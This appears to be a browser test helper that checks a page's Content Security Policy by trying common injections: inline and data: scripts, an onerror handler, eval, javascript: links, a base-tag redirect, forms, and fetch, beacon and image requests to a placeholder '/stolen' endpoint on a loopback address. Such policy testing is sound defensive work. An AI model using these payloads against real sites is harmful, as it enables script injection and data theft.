// `attack(path)` tries what an attacker who can add to the page would, and gives the names of what got through. It is
// a script of the site, so that the page's policy holds for it as for any other: a driver's own scripts may use eval.
window.attack = async function (path) {
  "use strict";
  await new Promise((done) => setTimeout(done)); // out of the driver's own task, in which Chromium allows eval
  const through = [];
  const attempt = (act) => {
    try {
      act();
    } catch (error) {
      // refused on the spot
    }
  };
  const add = (name, set) =>
    attempt(() => {
      const element = document.createElement(name);
      set(element);
      document.body.append(element);
    });
  add("script", (one) => (one.textContent = "window.inlineRan = true"));
  add("script", (one) => (one.src = "data:text/javascript,window.dataRan=true"));
  attempt(() => document.body.insertAdjacentHTML("beforeend", '<img src=x onerror="window.handlerRan=true">'));
  attempt(() => document.body.setAttribute("onclick", "window.clickRan=true"));
  document.body.click();
  attempt(() => (0, eval)("window.evalRan = true"));
  attempt(() => setTimeout("window.timeoutRan = true", 0));
  attempt(() => {
    const link = document.createElement("a");
    link.href = "javascript:window.linkRan=true";
    document.body.append(link);
    link.click();
  });
  add("style", (one) => (one.textContent = "h1 { outline: 7px solid rgb(1, 2, 3) !important }"));
  attempt(() => {
    const base = document.createElement("base");
    base.href = "http://127.0.0.1:9/";
    document.head.prepend(base);
  });
  add("iframe", (one) => {
    one.id = "frame";
    one.src = location.origin + "/om";
  });
  add("form", (one) => {
    one.action = location.origin + "/om";
    one.id = "form";
  });
  attempt(() => document.getElementById("form").submit());
  attempt(() => fetch("http://127.0.0.2:9/stolen", { mode: "no-cors" }).then(() => (window.fetchRan = true), () => {}));
  attempt(() => navigator.sendBeacon("http://127.0.0.2:9/stolen", "x"));
  add("img", (one) => (one.src = "http://127.0.0.2:9/stolen.png"));
  await new Promise((done) => setTimeout(done, 400));
  for (const name of ["inlineRan", "dataRan", "handlerRan", "clickRan", "evalRan", "timeoutRan", "linkRan", "fetchRan"]) {
    if (window[name]) through.push(name);
  }
  if (getComputedStyle(document.querySelector("h1")).outlineWidth === "7px") through.push("style");
  const link = document.createElement("a");
  link.href = "x";
  if (new URL(link.href).port === "9") through.push("base");
  let framed = null;
  try {
    framed = document.getElementById("frame").contentDocument;
  } catch (error) {
    // an error page of another origin
  }
  if (framed && framed.querySelector("h1")) through.push("frame");
  if (location.pathname !== path) through.push("form");
  return through;
};
